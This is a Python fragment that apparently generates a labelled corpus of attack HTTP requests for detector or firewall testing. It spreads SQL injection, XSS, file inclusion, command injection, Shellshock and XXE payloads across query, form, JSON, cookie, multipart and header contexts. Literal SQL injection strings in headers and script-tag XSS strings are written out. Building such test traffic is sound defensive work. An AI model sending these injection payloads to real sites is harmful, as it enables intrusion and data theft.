CONTEXTS_VALUE = ["query", "form", "json", "query", "cookie", "multipart", "query", "json"]


class _Builder:
    def __init__(self) -> None:
        self.records: list[dict[str, Any]] = []
        self.counts: dict[str, int] = {}

    def _rid(self, category: str) -> str:
        self.counts[category] = self.counts.get(category, 0) + 1
        return f"{category}-{self.counts[category]:03d}"

    def value(
        self,
        category: str,
        payload: str,
        index: int,
        params: list[str],
        context: str,
        raw: bool = False,
    ) -> None:
        """Place one value payload in one context."""
        param = params[index % len(params)]
        n = len(self.records)
        ip = client_ip(n, attack=True)
        host = HOSTS[n % len(HOSTS)]
        ua_key = BROWSERS[n % len(BROWSERS)] if n % 3 else CLIENTS[n % len(CLIENTS)]
        rid = self._rid(category)
        if raw and context not in ("query", "form"):
            context = "query"
        if context == "query":
            query = f"{param}={payload}" if raw else qs([(param, payload)])
            if n % 4 == 1:
                query = qs([("lang", "en")]) + "&" + query
            headers = (
                browser_headers(host, ua_key, n)
                if ua_key in BROWSERS
                else api_headers(host, ua_key)
            )
            self.records.append(
                record(
                    rid,
                    "attack",
                    category,
                    "GET",
                    GET_PATHS[n % len(GET_PATHS)],
                    query=query,
                    headers=headers,
                    client_ip=ip,
                )
            )
        elif context == "form":
            body = (f"{param}={payload}" if raw else form([(param, payload)])) + "&submit=Send"
            headers = browser_headers(host, ua_key, n, referer=f"https://{host}/")
            self.records.append(
                record(
                    rid,
                    "attack",
                    category,
                    "POST",
                    POST_PATHS[n % len(POST_PATHS)],
                    headers=headers,
                    body=body,
                    content_type="application/x-www-form-urlencoded",
                    client_ip=ip,
                )
            )
        elif context == "json":
            doc: dict[str, Any] = {"request_id": f"r{n:05d}", param: payload}
            if n % 2:
                doc = {"data": {"attributes": {param: payload, "locale": "en"}}}
            self.records.append(
                record(
                    rid,
                    "attack",
                    category,
                    "POST",
                    POST_PATHS[n % len(POST_PATHS)],
                    headers=api_headers(host, CLIENTS[n % len(CLIENTS)]),
                    body=jdump(doc),
                    content_type="application/json",
                    client_ip=ip,
                )
            )
        elif context == "cookie":
            cookie = f"_ga=GA1.2.1{n:04d}.1700000000; {param}={qs([('', payload)])[1:]}"
            self.records.append(
                record(
                    rid,
                    "attack",
                    category,
                    "GET",
                    GET_PATHS[n % len(GET_PATHS)],
                    headers=browser_headers(host, BROWSERS[n % 8], n, cookie=cookie),
                    client_ip=ip,
                )
            )
        elif context == "multipart":
            boundary = f"----WebKitFormBoundary{n:016d}"
            body = multipart(
                [("title", None, "", b"hello"), (param, None, "", payload.encode())], boundary
            )
            self.records.append(
                record(
                    rid,
                    "attack",
                    category,
                    "POST",
                    POST_PATHS[n % len(POST_PATHS)],
                    headers=browser_headers(host, BROWSERS[n % 8], n, referer=f"https://{host}/"),
                    body=body,
                    content_type=f"multipart/form-data; boundary={boundary}",
                    client_ip=ip,
                )
            )
        else:
            raise ValueError(context)

    def header(self, category: str, name: str, value: str, note: str = "") -> None:
        n = len(self.records)
        host = HOSTS[n % len(HOSTS)]
        headers = [
            (k, v)
            for k, v in browser_headers(host, BROWSERS[n % 8], n)
            if k.lower() != name.lower()
        ]
        headers.append((name, value))
        self.records.append(
            record(
                self._rid(category),
                "attack",
                category,
                "GET",
                GET_PATHS[n % len(GET_PATHS)],
                headers=headers,
                note=note,
                client_ip=client_ip(n, True),
            )
        )

    def path(
        self,
        category: str,
        path: str,
        query: str = "",
        ua: str | None = None,
        extra: list[tuple[str, str]] | None = None,
    ) -> None:
        n = len(self.records)
        host = HOSTS[n % len(HOSTS)]
        headers = browser_headers(host, BROWSERS[n % 8], n)
        if ua is not None:
            headers = [(k, v) for k, v in headers if k != "User-Agent"] + [("User-Agent", ua)]
        headers += extra or []
        self.records.append(
            record(
                self._rid(category),
                "attack",
                category,
                "GET",
                path,
                query=query,
                headers=headers,
                client_ip=client_ip(n, True),
            )
        )

    def structured(self, category: str, context: str, query: str, doc: Any) -> None:
        n = len(self.records)
        host = HOSTS[n % len(HOSTS)]
        if context == "query":
            self.records.append(
                record(
                    self._rid(category),
                    "attack",
                    category,
                    "GET",
                    "/api/v1/users/login",
                    query=query,
                    headers=api_headers(host, CLIENTS[n % len(CLIENTS)]),
                    client_ip=client_ip(n, True),
                )
            )
        else:
            self.records.append(
                record(
                    self._rid(category),
                    "attack",
                    category,
                    "POST",
                    "/api/v1/users/login",
                    headers=api_headers(host, CLIENTS[n % len(CLIENTS)]),
                    body=jdump(doc),
                    content_type="application/json",
                    client_ip=client_ip(n, True),
                )
            )

    def protocol(self, spec: dict[str, Any]) -> None:
        n = len(self.records)
        host = HOSTS[n % len(HOSTS)]
        headers = browser_headers(host, BROWSERS[n % 8], n) + list(spec.get("headers", []))
        body: bytes | str = spec.get("body", b"")
        ctype = spec.get("ctype")
        if "multipart" in spec:
            boundary = f"----formdata-{n:08d}"
            body = multipart([(a, b, c, d) for a, b, c, d in spec["multipart"]], boundary)
            ctype = f"multipart/form-data; boundary={boundary}"
        category = "upload" if "multipart" in spec else "protocol"
        self.records.append(
            record(
                self._rid(category),
                "attack",
                category,
                spec["method"],
                spec["path"],
                query=spec.get("query", ""),
                headers=headers,
                body=body,
                content_type=ctype,
                note=spec["note"],
                http_version=spec.get("version", "1.1"),
                client_ip=client_ip(n, True),
                add_length=not any(k == "Content-Length" for k, _ in spec.get("headers", [])),
            )
        )


def build_attacks() -> list[dict[str, Any]]:
    b = _Builder()
    for i, p in enumerate(SQLI):
        b.value("sqli", p, i, SQLI_PARAMS, CONTEXTS_VALUE[i % len(CONTEXTS_VALUE)])
    for i, p in enumerate(SQLI_RAW):
        b.value("sqli", p, i, SQLI_PARAMS, "query", raw=True)
    b.header("sqli", "User-Agent", "Mozilla/5.0' AND SLEEP(5)-- -")
    b.header("sqli", "X-Forwarded-For", "127.0.0.1' or 1=1-- -")
    b.header("sqli", "Referer", "https://www.example.com/?id=1' union select 1,2,3--")
    for ctx, query, doc in NOSQL:
        b.structured("nosqli", ctx, query, doc)
    for i, p in enumerate(XSS):
        b.value("xss", p, i, XSS_PARAMS, CONTEXTS_VALUE[(i + 3) % len(CONTEXTS_VALUE)])
    for i, p in enumerate(XSS_RAW):
        b.value("xss", p, i, XSS_PARAMS, "query", raw=True)
    b.header("xss", "Referer", "https://www.google.com/search?q=<script>alert(1)</script>")
    b.header("xss", "User-Agent", "<script>alert('ua')</script>")
    b.value("xss", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", 0, XSS_PARAMS, "query")
    for i, p in enumerate(LFI):
        b.value("lfi", p, i, LFI_PARAMS, ["query", "json", "query", "form"][i % 4])
    for i, p in enumerate(LFI_RAW):
        b.value("lfi", p, i, LFI_PARAMS, "query", raw=True)
    for p in LFI_PATHS:
        b.path("lfi", p)
    for p in RESTRICTED_FILES:
        b.path("restricted-file", p)
    for i, (param, url) in enumerate(RFI):
        b.value("rfi-ssrf", url, 0, [param], ["query", "json", "query", "form"][i % 4])
    for i, p in enumerate(RCE):
        b.value("rce", p, i, RCE_PARAMS, ["query", "form", "json", "query", "multipart"][i % 5])
    for i, p in enumerate(RCE_RAW):
        b.value("rce", p, i, RCE_PARAMS, "query", raw=True)
    for name, value in SHELLSHOCK:
        b.header("rce", name, value, note="shellshock")
    for i, p in enumerate(PHP):
        b.value("php", p, i, GENERIC_PARAMS, ["query", "form", "cookie", "json"][i % 4])
    for name, value in JAVA_HEADERS:
        b.header("java", name, value)
    for i, p in enumerate(JAVA_VALUES):
        b.value("java", p, i, GENERIC_PARAMS, ["query", "json", "form", "cookie"][i % 4])
    for i, p in enumerate(SSTI):
        b.value("ssti", p, i, GENERIC_PARAMS, ["query", "json", "form"][i % 3])
    for ctx, query, doc in PROTO_POLLUTION:
        b.structured("prototype-pollution", ctx, query, doc)
    n = len(b.records)
    for i, xml in enumerate(XXE):
        host = HOSTS[(n + i) % len(HOSTS)]
        b.records.append(
            record(
                b._rid("xxe"),
                "attack",
                "xxe",
                "POST",
                "/api/soap/users",
                headers=api_headers(host, CLIENTS[i % len(CLIENTS)], accept="application/xml"),
                body=xml,
                content_type="application/xml",
                client_ip=client_ip(n + i, True),
            )
        )
    for i, ua in enumerate(SCANNER_UAS):
        b.path("scanner", ["/", "/admin/", "/wp-login.php", "/robots.txt", "/login"][i % 5], ua=ua)
    for path, extra in SCANNER_PROBES:
        b.path("scanner", path, extra=extra)
    for spec in PROTOCOL:
        b.protocol(spec)
    return b.records
